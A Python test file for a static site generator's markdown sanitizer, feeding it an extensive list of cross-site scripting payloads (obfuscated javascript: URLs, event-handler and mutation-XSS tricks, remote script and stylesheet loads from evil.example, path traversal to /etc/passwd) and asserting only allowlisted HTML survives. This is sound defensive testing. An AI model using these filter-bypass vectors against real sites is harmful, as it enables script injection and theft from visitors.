"""Hostile articles: whatever is in a body, its HTML holds only what is allowed."""

from __future__ import annotations

import itertools
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sitegen.markup import markdown_html
from sitegen.markup.escape import escape_paragraph
from sitegen.markup.front_matter import parse_page
from sitegen.markup.markdown_html import render_markdown
from sitegen.markup.marks import fill_marks, mark_mentions
from sitegen.markup.plain_text import plain_text

PAYLOAD = "alert(1)"

HANDLERS = (
    "onload onerror onclick onmouseover onfocus onbegin ontoggle onpointerrawupdate onanimationstart oncut".split()
)
ELEMENTS = (
    "script style iframe object embed applet form input button select textarea svg math link meta base body html head "
    "frame frameset video audio source track template slot noscript noembed noframes plaintext xmp listing marquee "
    "keygen isindex bgsound blink dialog portal canvas map area picture img a p div details x-custom"
).split()
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)",
    "&#0000106avascript:alert(1)",
    "&#1;javascript:alert(1)",
    "&#14;javascript:alert(1)",
    "j&#14;avascript:alert(1)",
    "javascript&#17;:alert(1)",
    "j\x0eavascript:alert(1)",
    "javas\x00cript:alert(1)",
    "java\u200bscript:alert(1)",
    "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "javascript\u003aalert(1)",
    "javascript%3Aalert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:http://a/b",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:http://a!/b",
    "ms-word:x",
    "intent://x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "http:javascript:alert(1)",
    "x:y",
    "\x01http://a",
    "://a",
    "\x11javascript:alert(1)",
    "&#17;x",
]
RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<script",
    "</p><script>alert(1)</script><p>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<img src=media/x.png alt='\"><script>alert(1)</script>'>",
    "<img src='media/x.png\" onerror=\"alert(1)'>",
    "<img srcset='//evil.example/x 1x' src=media/x>",
    "<img src=//evil.example/x.png>",
    "<img src=https://evil.example/x.png onload=alert(1) alt='<b onclick=alert(1)>'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><caption><a href=javascript:alert(1)>x</a></caption></table>",
    "<table background=javascript:alert(1)><tr style='x:expression(alert(1))'><td onclick=alert(1)>x",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style=\"width:expression(alert(1))\" class='site-header evil' id='main'>x</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,x><param name=x value=y></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='#\" onclick=\"alert(1)'>x</a>",
    "<a href=\"x\" target=_blank ping=//evil.example download>x</a>",
    "<a name=x id=search accesskey=x tabindex=1 contenteditable>x</a>",
    "<a href='/x' class='entity person'>x</a>",
    "<li id='main' value='1' onclick=alert(1)>x",
    "<ol start=javascript:alert(1)><li>x</ol>",
    "<time datetime='\"><script>alert(1)</script>'>x</time>",
    "<abbr title='</abbr><script>alert(1)</script>'>x</abbr>",
    "<p lang='\"><script>' dir='x\" onclick=\"alert(1)'>x</p>",
    "<x-custom is=script onclick=alert(1)>x</x-custom>",
    "<b>" * 50 + "x",
    "<p><b><p><i><p><a href=javascript:alert(1)>",
    "</div></body></html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#14;0&#15;x&#16; &#x11;",
    "\x0e0\x0fx\x10 \x11",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03",
    "&#2;wzxhzdk:0&#3; &#2;klzzwxh:0000&#3;",
    "<!-- \x02wzxhzdk:0\x03 --><b>x</b>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onclick=\"alert(1)\nx\n```",
    "``` {.x onclick=alert(1)}\nx\n```",
    "# <script>alert(1)</script>",
    "# x {: onclick=alert(1) }",
    "[x](/y){: onclick=alert(1) }",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "x[^a onclick=alert(1)]\n\n[^a onclick=alert(1)]: y",
    "[x](http://a \"title\\\"><script>alert(1)</script>\")",
    "[x](http://a 'title\" onclick=\"alert(1)')",
    "[x](http://a\"onclick=\"alert(1))",
    "[x](<http://a\" onclick=\"alert(1)>)",
    "![x\" onerror=\"alert(1)](media/x.png)",
    "![x](media/x.png\"onerror=\"alert(1))",
    "![x](media/x.png \"t\\\" onerror=\\\"alert(1)\")",
    "![\"><script>alert(1)</script>](http://evil.example/x.png)",
    "![<img src=x onerror=alert(1)>](http://evil.example/x.png)",
    "![`<img src=x onerror=alert(1)>`](media/x.png)",
    "[![x](http://a)](javascript:alert(1))",
    "[<script>alert(1)</script>](http://a)",
    "[x](http://a)\n[y]: javascript:alert(1) \"t\"\n\n[z][y]",
    "<http://a\"onclick=\"alert(1)>",
    "<javascript:alert(1)>",
    "<a@b.example\" onclick=alert(1)>",
    "<mailto:a@b>",
    "http://a/<script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "{{ 7*7 }} {% include 'x' %} ${7*7} #{7*7} <%= 7*7 %>",
    "![x](media/../../../etc/passwd)",
    "![x](media/%2e%2e/x)",
    "![x](media\\..\\x)",
    "![x](media/x.png&#34;onerror=alert(1))",
]  # fmt: skip

VECTORS = [
    *RAW,
    *(f"<{name} {handler}={PAYLOAD}>x</{name}>" for name, handler in itertools.product(ELEMENTS, HANDLERS[:3])),
    *(
        f"<{name}/{handler}\n=\n'{PAYLOAD}'"
        for name, handler in zip(itertools.cycle(ELEMENTS), HANDLERS * 5, strict=False)
    ),
    *(f"<{name} src=javascript:{PAYLOAD} href=javascript:{PAYLOAD} data=javascript:{PAYLOAD}>x" for name in ELEMENTS),
    *(f"[x]({url})" for url in SCHEMES),
    *(f"[x](<{url}>)" for url in SCHEMES),
    *(f"![x]({url})" for url in SCHEMES),
    *(f"[x][r]\n\n[r]: {url}" for url in SCHEMES),
    *(f'<a href="{url}">x</a>' for url in SCHEMES),
    *(f"<a href='{url}'>x</a>" for url in SCHEMES),
    *(f'<img src="{url}" alt="y">' for url in SCHEMES),
    *(f"<{url}>" for url in SCHEMES),
]

TAGS = frozenset(markdown_html._TAGS.split())
ATTRIBUTES = {
    *itertools.chain.from_iterable(markdown_html._ATTRIBUTES.values()),
    "class",
    "loading",
}
CLASSES = {"footnote", "footnote-ref", "footnote-backref"}
SAFE_URL = re.compile(r"(?:https?:|mailto:|\x11(?![/\\])|#body-|(?![a-z0-9+.-]*:|/|\\))", re.IGNORECASE)


class Inspector(HTMLParser):
    """Fails on anything that a body may not hold."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        assert len(dict(attrs)) == len(attrs)
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            assert not name.startswith("on")
            assert value is not None
            if name in ("href", "src"):
                # As a browser reads it: blanks at the ends and line breaks inside do not count.
                bare = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x11))) + " ")
                assert SAFE_URL.match(bare), (tag, value)
                assert "script:" not in re.split("[/?#]", bare.lower())[0]
            if name == "src":
                assert value.startswith("\x11media/")
                assert ".." not in value.split("/")
            if name == "id":
                assert value.startswith("body-")
            if name == "class":
                assert set(value.split()) <= CLASSES

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment  # type: ignore[assignment]


def inspect(html: str) -> None:
    inspector = Inspector(convert_charrefs=True)
    inspector.feed(html)
    inspector.close()
    # Root marks only where links start; mention marks never.
    assert not re.search("[\x00-\x08\x0b-\x10\x12-\x1f\x7f]", html)
    assert html.count("\x11") == len(re.findall(r' (?:href|src)="\x11', html))
    # Nothing is left for a second cleaning to remove or to read in another way.
    again = markdown_html._cleaner().clean(html.replace("\x11", "./"))
    assert again.replace("&nbsp;", "\xa0") == html.replace("\x11", "./").replace(' loading="lazy"', "")


@pytest.mark.parametrize("body", VECTORS, ids=range(len(VECTORS)))
def test_hostile_body_renders_harmlessly(body: str) -> None:
    """Alone, inside of words, in a list, quoted: only allowed tags, attributes and addresses come out."""
    for wrapped in (body, f"before {body} after", f"- {body}", f"> {body}", f"*{body}*", f"<div>\n\n{body}\n\n</div>"):
        inspect(render_markdown(wrapped).html)


@pytest.mark.parametrize("body", RAW, ids=range(len(RAW)))
def test_hostile_text_reads_as_typed_once_escaped(body: str) -> None:
    """Text that ingest escapes shows its markup as text."""
    html = render_markdown(escape_paragraph(body)).html
    inspect(html)
    assert set(re.findall(r"<[^>]*>", html)) == {"<p>", "</p>"}


@pytest.mark.parametrize("body", RAW, ids=range(len(RAW)))
def test_marks_add_nothing_but_their_links(body: str) -> None:
    """Names that look like markup are marked as text only, and filling the marks adds only the given links."""
    html = render_markdown(body).html
    forms = [
        (name,) for name in ["script", "alert", "x", "img", "src", "<script>", "\x0e0\x0f", "onerror=alert", "p", "a"]
    ]
    filled = fill_marks(mark_mentions(html, forms), [("<b>", "</b>")] * len(forms), "../")
    inspect(filled.replace("../", "\x11") if "../" not in html else filled)
    assert re.sub("</?b>", "", filled) == re.sub("</?b>", "", html.replace("\x11", "../"))


@pytest.mark.parametrize("name", RAW[:40], ids=range(40))
def test_hostile_names_stay_text_in_fields(name: str) -> None:
    """Fields hold text: they are escaped where they are shown, and never gain line breaks or control characters."""
    article, _ = parse_page("---\ntitle: '" + name.replace("'", "''").replace("\n", " ") + "'\n---\n", "a.md")
    assert article.title == article.title.replace("\n", "")
    assert not re.search("[\x00-\x1f]", article.title)


def test_no_end_tag_reaches_beyond_the_body() -> None:
    """What is left of forbidden elements cannot close an element of the page around the body."""
    html = render_markdown("<ul><li><div><marquee><li>x</li></marquee></div></li></ul>").html
    assert html == "<ul><li><div></div></li><li>x</li></ul>"


def test_text_of_hostile_markup_has_no_tags() -> None:
    """Plain text is text; what was escaped comes back as characters, to be escaped again where it is shown."""
    assert plain_text(render_markdown("<b>a</b> <script>alert(1)</script> `<i>`").html) == "a <i>"


PIECES = st.sampled_from(
    [
        *"<>\"'=/&;#[]()!`*_\\ \n\t:{}|",
        *[
            "script",
            "img",
            "a",
            "b",
            "svg",
            "math",
            "style",
            "p",
            "table",
            "href",
            "src",
            "onerror",
            "javascript:",
            "x",
        ],
        *[
            "<a href=",
            "<img src=",
            "</",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "<?",
            "&#106;",
            "&#14;",
            "&Tab;",
            "&colon;",
        ],
        *[
            "\x02",
            "\x03",
            "\x0e",
            "\x11",
            "media/",
            "http://a",
            "](",
            "![",
            "[^1]",
            "[^1]: ",
            "```",
            "    ",
            "\n\n",
            "> ",
        ],
    ]
)


@given(st.lists(PIECES, max_size=20).map("".join))
@settings(max_examples=600, deadline=None)
def test_random_hostile_bodies_render_harmlessly(body: str) -> None:
    """Any mixture of the parts of attacks is harmless too."""
    inspect(render_markdown(body).html)
